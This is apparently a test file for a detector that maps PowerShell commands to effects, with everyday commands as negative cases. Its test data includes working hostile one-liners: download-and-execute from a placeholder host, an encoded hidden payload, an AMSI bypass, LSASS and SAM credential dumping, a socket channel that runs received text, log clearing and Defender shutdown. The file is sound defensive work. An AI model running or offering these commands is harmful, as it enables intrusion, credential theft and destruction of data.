/** What PowerShell does, as effects: cmdlets, .NET calls, hidden code, and everyday work without effects of weight. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { effectsOf, worldOf } from '../../../test/support/effects.ts';

const HAS: readonly (readonly [string, string, string])[] = [
  [
    'downloaded text that is run',
    'IEX (New-Object Net.WebClient).DownloadString("http://a.test/x")',
    'downloads_and_runs one',
  ],
  ['a download by alias, piped', 'iwr http://a.test/x | iex', 'downloads_and_runs one'],
  [
    'base64 behind a shortened option',
    'powershell -nop -w hidden -enc aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBhAC4AdABlAHMAdAApAA==',
    'downloads_and_runs one',
  ],
  ['a name of letters taken from a variable', "& ($env:ComSpec[4,15,25] -join '') 'whoami'", 'obfuscates one'],
  ['a name put together by a format', "&('{1}{0}' -f 'ex','i') $code", 'obfuscates one'],
  ['back ticks inside a name', 'I`nv`oke-Expression $code', 'obfuscates one'],
  [
    'joined strings that name a guard',
    '[Ref].Assembly.GetType("System.Management.Automation.Am"+"siUtils")',
    'tampers_with_guards one',
  ],
  ['a parameter cut short', 'Remove-Item -Rec C:\\Windows\\System32', 'deletes everything'],
  ['parameters cut to a letter', 'rm -r -fo C:\\Users\\me\\Documents', 'deletes many'],
  ['a command found by a pattern', '& (gcm R*e-I*m) -Recurse C:\\Users\\me\\Documents', 'deletes many'],
  ['a command found by a pattern that fits nothing known', '& (gcm *-Qx*z) a', 'runs_code one'],
  [
    'a value of the registry that runs at log-in',
    'Set-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name a -Value C:\\a.exe',
    'persists one',
  ],
  ['a hive read for its secrets', 'reg save HKLM\\SAM C:\\a', 'reads_credentials everything'],
  ['a service on another machine', 'sc.exe \\\\db01 create a binPath= C:\\a.exe', 'moves_laterally everything'],
  ['a block on another machine', 'Invoke-Command -ComputerName db01 -ScriptBlock { Get-Date }', 'moves_laterally one'],
  [
    'a file on an administrative share',
    'Copy-Item a.exe \\\\db01\\C$\\Users\\Public\\a.exe',
    'moves_laterally everything',
  ],
  [
    'a connection whose text is run',
    '$s=(New-Object Net.Sockets.TcpClient("10.0.0.1",44)).GetStream(); $d=$s.Read($b,0,9); iex $d',
    'opens_channel one',
  ],
  [
    'a WMI subscription',
    'Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsumer',
    'persists one',
  ],
  ['verb and noun: a log cleared', 'Clear-WinEventLog Security', 'tampers_with_logs many'],
  ['verb and noun: a guard stopped', 'Disable-WindowsDefenderFeature', 'tampers_with_guards everything'],
  ['verb and noun: an account', 'New-ADUser -Name helper', 'persists one'],
  [
    'memory of the password process',
    'rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 620 C:\\a.dmp full',
    'reads_credentials everything',
  ],
  [
    'a certificate check replaced',
    '[Net.ServicePointManager]::ServerCertificateValidationCallback = { $true }',
    'bypasses_checks one',
  ],
  [
    'an assembly from the network',
    '$d=(New-Object Net.WebClient).DownloadData("http://a.test/a"); [Reflection.Assembly]::Load($d)',
    'downloads_and_runs one',
  ],
  [
    'a function that is called',
    'function Get-It($u) { iex (irm $u) }\nGet-It "http://a.test/x"',
    'downloads_and_runs one',
  ],
  [
    'a written script that is run',
    'Set-Content a.ps1 -Value "Stop-Service WinDefend"\n.\\a.ps1',
    'tampers_with_guards one',
  ],
];

for (const [name, code, effect] of HAS)
  test(`PowerShell: ${name}`, () =>
    assert.ok(effectsOf(code, 'powershell').includes(effect), effectsOf(code, 'powershell').join(', ')));

const QUIET =
  /^(?:reads|writes|deletes scratch|deletes one|runs_code|downloads|reconnoitres|disrupts scratch|installs)/;

for (const code of [
  'Get-ChildItem -Recurse -Filter *.ts | Where-Object { $_.Length -gt 10kb } | ForEach-Object { $_.FullName }',
  'npm ci; if ($LASTEXITCODE -ne 0) { throw "failed" }',
  '$v = (Get-Content package.json | ConvertFrom-Json).version; Write-Host "version $v"',
  'foreach ($p in Get-ChildItem *.csproj) { dotnet build $p.FullName -c Release }',
  '[IO.File]::WriteAllText("out.txt", [DateTime]::Now.ToString("s"))',
  'try { Invoke-RestMethod http://localhost:3000/health } catch { Write-Error $_ } finally { Pop-Location }',
  '$h = @{ a = 1; b = "two" }; $h.Keys | Sort-Object | Out-String',
  "docker ps --format '{{.Names}}' | Select-String web",
])
  test(`PowerShell: everyday work (${code.slice(0, 40)})`, () =>
    assert.deepEqual(
      effectsOf(code, 'powershell').filter((effect) => !QUIET.test(effect)),
      [],
    ));

test('PowerShell is told from a POSIX shell where no name says so', () => {
  assert.ok(
    effectsOf('Stop-Service -Name WinDefend; Clear-EventLog -LogName Security', 'shell').includes(
      'tampers_with_logs everything',
    ),
  );
  assert.ok(effectsOf('x=$(cat a); for i in *; do echo "$i"; done', 'shell').every((e) => /^reads/.test(e)));
});

test('a command of thousands of words is read in part, which is told, and the next statement is read', () => {
  const removes = 'Remove-Item -Recurse -Force C:\\Users';
  const world = worldOf(`Get-Item ${'x '.repeat(5_000)}\n${removes}`, 'powershell');
  assert.ok(world.was_cut);
  const told = world.effects.items.map(({ kind, scope }) => `${kind} ${scope}`);
  for (const effect of effectsOf(removes, 'powershell')) assert.ok(told.includes(effect), effect);
  assert.ok(!worldOf(`Get-Item ${'x '.repeat(1_000)}`, 'powershell').was_cut);
});
